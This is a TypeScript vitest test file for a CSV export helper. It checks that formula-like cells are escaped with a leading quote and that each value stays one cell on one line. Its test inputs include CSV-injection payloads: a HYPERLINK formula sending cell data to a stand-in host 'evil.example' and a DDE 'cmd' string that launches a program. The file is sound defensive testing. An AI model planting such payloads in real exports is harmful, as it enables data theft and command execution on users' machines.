import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvLine } from '../src/files/csv.ts';

const cell = (value: string | number | boolean | null): string =>
	(parse(csvLine([value]), { relax_column_count: true })[0] ?? [])[0] ?? '';

describe('a cell of an export', () => {
	it.each([
		'=1+1',
		'=HYPERLINK("http://evil.example?"&A1)',
		"+cmd|' /C calc'!A0",
		'-2+3',
		'@SUM(A1)',
		'\t=1',
		'\r=1',
		'\n=1',
		' =1',
		'＝1+1',
		'|calc',
		'%0a=1',
		'\u0000=1',
	])('that a spreadsheet would run is text: %j', (text) => expect(cell(text)).toBe(`'${text}`));

	it('is as it was where it does no harm', () => {
		for (const text of ['Ann Lee', 'a=b', '12 Pine St, "Rear"', 'two\nlines', '-12.5', '+44', '-1e3', ''])
			expect(cell(text)).toBe(text);
		expect(csvLine(['a', 1, null, true, undefined])).toBe('a,1,,true,\r\n');
	});

	it('never begins with a sign, and stays one cell in one line', () => {
		fc.assert(
			fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 2, maxLength: 5 }), (cells) => {
				const [row, ...others] = parse(csvLine(cells)) as string[][];
				expect([row?.length, others]).toEqual([cells.length, []]);
				for (const text of row ?? []) expect(/^[=@]|^[+-](?!\d)/.test(text)).toBe(false);
			}),
		);
	});
});
